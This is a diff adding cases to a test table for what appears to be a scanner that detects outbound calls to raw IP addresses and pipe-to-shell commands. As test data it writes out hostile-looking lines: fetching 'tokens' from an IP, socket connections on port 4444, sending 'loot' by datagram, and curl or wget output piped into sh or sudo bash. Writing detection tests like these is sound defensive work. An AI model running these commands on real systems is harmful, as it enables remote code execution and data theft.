@@ -44,6 +44,9 @@ testTable({
     hits: [
       ["rspack's", 'fetch("http://80.78.28.72/tokens")', '80.78.28.72'],
       ['with a port', "get('http://45.61.158.14:8000/a')", '45.61.158.14'],
+      ["of a manual's, called", "http.get('http://192.0.2.10/task', run)", '192.0.2.10'],
+      ["of a manual's, connected to", "socket.connect(4444, '203.0.113.8')", '203.0.113.8'],
+      ["a datagram's", "s.send(loot, 5353, '44.128.0.9', done)", '44.128.0.9'],
       ['behind credentials', "get('http://a:b@45.61.158.14/')", '45.61.158.14'],
       ['of a socket', "net.connect(4444, '45.61.158.14')", '45.61.158.14'],
       ['as a host', "http.request({ hostname: '45.61.158.14', port: 80 })", '45.61.158.14'],
@@ -104,6 +107,8 @@ testTable({
   'pipe-to-shell': {
     hits: [
       ['curl', "exec('curl -s https://a.example/x | sh')"],
+      ['in a text of several lines', "write('#!/bin/sh\\ncurl -s https://a.example | sh\\n')"],
+      ['made a program', "exec('wget -q https://a.example/b -O /tmp/.b && chmod +x /tmp/.b')"],
       ['with sudo', "exec('wget -qO- https://a.example | sudo bash')"],
       ['substituted', 'execSync(\'bash -c "$(curl -fsSL https://a.example)"\')'],
       ['as a file', "execSync('bash <(curl -s https://a.example)')"],
